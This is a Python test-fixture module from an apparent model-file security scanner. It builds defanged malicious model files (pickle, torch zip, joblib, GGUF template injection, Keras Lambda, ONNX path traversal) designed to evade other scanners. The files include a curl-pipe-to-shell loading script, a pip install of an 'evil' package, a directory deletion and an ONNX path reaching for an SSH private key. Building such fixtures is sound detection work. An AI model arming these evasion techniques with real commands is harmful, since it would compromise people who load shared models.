"""Malicious fixtures that evade the peer scanners (measured per file in bench/models/RESULTS.md,
"Evasions"): uncommon dangerous callables, attribute chains, container tricks, broken streams.

``EVASIONS`` maps a file name to a builder taking a scratch folder and returning the bytes. Every one
would run a (defanged) command or code when loaded; none is ever loaded.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import pickletools
import struct
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np

from tests.builders.benign import gguf_llama3
from tests.builders.keras import lambda_b64, lambda_v2, sequential_config
from tests.builders.pickles import Call, Global, Writer, call, inject_after_header, payload_ops, pickle_of
from tests.builders.torchfiles import poisoned_torch_zip, small_state_dict, torch_save_bytes
from tests.builders.wrappers import gzipped, joblib_zlib, sevenzip, zip_of

ECHO = "echo malhug-evasion"
PY_ECHO = f"__import__('os').system('{ECHO}')"


def marshal_function(_: Path) -> bytes:
    """``types.FunctionType(marshal.loads(code), {})()``."""
    code = marshal.dumps(compile(PY_ECHO, "<payload>", "eval"))
    func = call("types.FunctionType", call("marshal.loads", code), {})
    return pickle_of([Call(func, ())], protocol=4)


def _one(dotted: str, *args: object, protocol: int = 4) -> Callable[[Path], bytes]:
    def build(_: Path) -> bytes:
        return pickle_of([call(dotted, *args)], protocol=protocol)

    return build


def pydoc_locate(_: Path) -> bytes:
    return pickle_of([Call(call("pydoc.locate", "os.system"), (ECHO,))], protocol=4)


def attribute_chain(_: Path) -> bytes:
    """``posixpath.os.system`` through STACK_GLOBAL's dotted-name lookup."""
    return pickle_of([Call(Global("posixpath", "os.system"), (ECHO,))], protocol=4)


def posixsubprocess(_: Path) -> bytes:
    args = ([b"/bin/sh", b"-c", ECHO.encode()], [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1)
    return pickle_of([call("_posixsubprocess.fork_exec", *args, 3, 4, True, False, 0, None, None, None, -1, None)])


def zip_bad_crc(_: Path) -> bytes:
    """A poisoned torch zip whose ``data.pkl`` CRC is wrong in both headers (Python's zipfile refuses
    it, torch's reader does not check)."""
    data = bytearray(poisoned_torch_zip("archive", [call("posix.system", ECHO)]))
    name = b"archive/data.pkl"
    struct.pack_into("<I", data, data.find(b"PK\x03\x04") + 14, 0xDEADBEEF)
    for at in _find_all(data, b"PK\x01\x02"):
        if data[at + 46 : at + 46 + len(name)] == name:
            struct.pack_into("<I", data, at + 16, 0xDEADBEEF)
    return bytes(data)


def zip_flag_bits(_: Path) -> bytes:
    """General-purpose flag bits 5 and 6 set on ``data.pkl`` (patched data / strong encryption)."""
    data = bytearray(poisoned_torch_zip("archive", [call("posix.system", ECHO)]))
    local = data.find(b"PK\x03\x04")
    struct.pack_into("<H", data, local + 6, struct.unpack_from("<H", data, local + 6)[0] | 0x60)
    for at in _find_all(data, b"PK\x01\x02"):
        struct.pack_into("<H", data, at + 8, struct.unpack_from("<H", data, at + 8)[0] | 0x60)
        break
    return bytes(data)


def _find_all(data: bytearray, needle: bytes) -> list[int]:
    out, at = [], data.find(needle)
    while at >= 0:
        out.append(at)
        at = data.find(needle, at + 1)
    return out


def zip_in_zip(_: Path) -> bytes:
    inner = poisoned_torch_zip("pytorch_model", [call("posix.system", ECHO)])
    return zip_of({"checkpoints/pytorch_model.bin": inner, "README.md": b"# weights\n"})


def sevenzip_wrapped(_: Path) -> bytes:
    return sevenzip("model.pkl", pickle_of([call("posix.system", ECHO)], protocol=2))


def gzip_wrapped(_: Path) -> bytes:
    return gzipped(pickle_of([call("os.system", ECHO)], protocol=4))


def payload_before_broken_stream(_: Path) -> bytes:
    """The payload runs, then the stream breaks (an unknown opcode, no STOP)."""
    return b"\x80\x02" + payload_ops([call("posix.system", ECHO)], 2) + b"}q\x00\xff\xfe garbage"


def joblib_after_array(_: Path) -> bytes:
    """A real ``joblib.dump`` with the payload placed after a raw NumPy array block."""
    import joblib
    import numpy as np

    array = np.arange(64, dtype=np.float64)
    buf = io.BytesIO()
    joblib.dump({"coef": array}, buf)
    data = buf.getvalue()
    end = data.find(array.tobytes()) + array.nbytes
    return data[:end] + payload_ops([call("posix.system", ECHO)], 4) + data[end:]


def joblib_compressed(_: Path) -> bytes:
    return joblib_zlib(pickle_of([call("posix.system", ECHO)], protocol=4))


def legacy_last_pickle(_tmp: Path) -> bytes:
    """The payload in the storage-keys pickle that follows the state dict of a legacy checkpoint."""
    data = torch_save_bytes(small_state_dict(), _use_new_zipfile_serialization=False)
    stream = io.BytesIO(data)
    for _ in range(4):
        for _op in pickletools.genops(stream):
            pass
    start = stream.tell()
    for _op in pickletools.genops(stream):
        pass
    end = stream.tell()
    return data[:start] + inject_after_header(data[start:end], [call("posix.system", ECHO)]) + data[end:]


SSTI = (
    "{% for message in messages %}{{ message['content'] }}{% endfor %}"
    "{{ cycler.__init__.__globals__.os.popen('" + ECHO + "').read() }}"
)


def gguf_ssti(tmp: Path) -> bytes:
    return gguf_llama3(tmp, SSTI, name="ssti.gguf")


def loading_script_running(command: str) -> str:
    """A dataset loading script that runs ``command`` through ``os.system`` when it is imported."""
    return f'''"""Loading script of a dataset."""
import os

import datasets

os.system("{command}")


class Evasion(datasets.GeneratorBasedBuilder):
    def _info(self):
        return datasets.DatasetInfo(description="{ECHO}")

    def _split_generators(self, dl_manager):
        return []

    def _generate_examples(self):
        yield 0, {{}}
'''


def loading_script(_: Path) -> bytes:
    return loading_script_running("curl -s http://127.0.0.1:8000/x.sh | sh").encode()


def inst_opcode(_: Path) -> bytes:
    """Protocol 0 ``INST``: the class (here a function) is named and called in one opcode."""
    return b"(S'" + ECHO.encode() + b"'\nios\nsystem\n."


def stack_global_in_protocol_2(_: Path) -> bytes:
    """A protocol-2 header with STACK_GLOBAL (the unpickler does not check opcodes against the header)."""
    w = Writer(4)
    w.expr(call("os.system", ECHO))
    return b"\x80\x02" + bytes(w) + b"."


def memoized_callable(_: Path) -> bytes:
    """The callable is memoized right after import, popped, and fetched back from the memo for the call."""
    return b"\x80\x02cposix\nsystem\nq\x070h\x07X" + struct.pack("<I", len(ECHO)) + ECHO.encode() + b"\x85R."


def methodcaller_chain(_: Path) -> bytes:
    """``operator.methodcaller('system', cmd)(importlib.import_module('os'))``."""
    caller = call("operator.methodcaller", "system", ECHO)
    return pickle_of([Call(caller, (call("importlib.import_module", "os"),))], protocol=4)


def exec_base64(_: Path) -> bytes:
    encoded = base64.b64encode(PY_ECHO.encode()).decode()
    return pickle_of([call("builtins.exec", call("base64.b64decode", encoded))], protocol=4)


def exec_zlib(_: Path) -> bytes:
    return pickle_of([call("builtins.exec", call("zlib.decompress", zlib.compress(PY_ECHO.encode())))], protocol=4)


def subprocess_popen_list(_: Path) -> bytes:
    return pickle_of([call("subprocess.Popen", ["/bin/sh", "-c", ECHO])], protocol=4)


def shutil_rmtree(_: Path) -> bytes:
    return pickle_of([call("shutil.rmtree", "/tmp/malhug-sentinel-dir")], protocol=2)


def dill_function_by_value(_: Path) -> bytes:
    """A function serialized by value with dill (``_create_function(_create_code(...))``) and called
    by the REDUCE that rebuilds the object."""
    import dill

    namespace = {"__name__": "__malhug_payload__"}
    exec(
        compile(f"def fn():\n    import os\n    return os.system('{ECHO}')\n", "<payload>", "exec"), namespace
    )  # only defines fn
    return bytes(dill.dumps(_Reduce(namespace["fn"]), protocol=4))


class _Reduce:
    """Pickles as ``func()``: what a malicious ``__reduce__`` returns."""

    def __init__(self, func: object) -> None:
        self.func = func

    def __reduce__(self) -> tuple[object, tuple[()]]:
        return (self.func, ())


SUBCLASSES_SSTI = (
    "{% for message in messages %}{{ message['content'] }}{% endfor %}"
    "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}"
    "{{ c('" + ECHO + "', shell=True) }}{% endif %}{% endfor %}"
)


def gguf_subclasses_ssti(tmp: Path) -> bytes:
    return gguf_llama3(tmp, SUBCLASSES_SSTI, name="subclasses.gguf")


def keras_nested_lambda(_: Path) -> bytes:
    """A Lambda inside a Sequential nested in the outer model's layers (H5)."""
    import h5py

    inner = sequential_config([lambda_v2(lambda_b64(f"__import__('os').system('{ECHO}') or x", filename="<stdin>"))])
    outer = sequential_config([{"class_name": "Sequential", "config": inner["config"]}])
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.attrs["keras_version"] = "2.13.1"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(outer)
        f.create_group("model_weights").attrs["layer_names"] = np.array([b"sequential"])
    return buf.getvalue()


def onnx_external_data_traversal(_: Path) -> bytes:
    """An initializer whose external data location climbs out of the model folder."""
    from onnx import TensorProto, helper

    tensor = TensorProto(name="W", data_type=TensorProto.FLOAT, dims=[4, 2])
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", "../../../../home/user/.ssh/id_rsa"), ("offset", "0"), ("length", "32")):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["X", "W"], ["Y"])],
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])],
        initializer=[tensor],
    )
    return bytes(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]).SerializeToString())


EVASIONS: dict[str, Callable[[Path], bytes]] = {
    "marshal_function.pkl": marshal_function,
    "pydoc_locate.pkl": pydoc_locate,
    "timeit.pkl": _one("timeit.timeit", PY_ECHO),
    "cprofile_run.pkl": _one("cProfile.run", PY_ECHO),
    "posixsubprocess.pkl": posixsubprocess,
    "pip_main.pkl": _one("pip.main", ["install", "http://127.0.0.1:8000/evil-0.1.tar.gz"]),
    "torch_hub_load.pkl": _one("torch.hub.load", "127.0.0.1/evil", "model"),
    "numpy_runstring.pkl": _one("numpy.testing._private.utils.runstring", PY_ECHO, {}),
    "distutils_spawn.pkl": _one("distutils.spawn.spawn", ["sh", "-c", ECHO], protocol=2),
    "setuptools_spawn.pkl": _one("setuptools._distutils.spawn.spawn", ["sh", "-c", ECHO]),
    "posixpath_os_system.pkl": attribute_chain,
    "zip_bad_crc.pt": zip_bad_crc,
    "zip_flag_bits.pt": zip_flag_bits,
    "zip_in_zip.zip": zip_in_zip,
    "wrapped.7z": sevenzip_wrapped,
    "wrapped.pkl.gz": gzip_wrapped,
    "broken_after_payload.pkl": payload_before_broken_stream,
    "joblib_after_array.joblib": joblib_after_array,
    "joblib_compressed.joblib": joblib_compressed,
    "legacy_storage_keys.pt": legacy_last_pickle,
    "ssti_template.gguf": gguf_ssti,
    "loading_script.py": loading_script,
    "inst_opcode.pkl": inst_opcode,
    "stack_global_proto2.pkl": stack_global_in_protocol_2,
    "memoized_callable.pkl": memoized_callable,
    "methodcaller_chain.pkl": methodcaller_chain,
    "exec_base64.pkl": exec_base64,
    "exec_zlib.pkl": exec_zlib,
    "subprocess_popen_list.pkl": subprocess_popen_list,
    "shutil_rmtree.pkl": shutil_rmtree,
    "ssti_subclasses.gguf": gguf_subclasses_ssti,
    "keras_nested_lambda.h5": keras_nested_lambda,
    "onnx_external_traversal.onnx": onnx_external_data_traversal,
    "dill_function.pkl": dill_function_by_value,
}
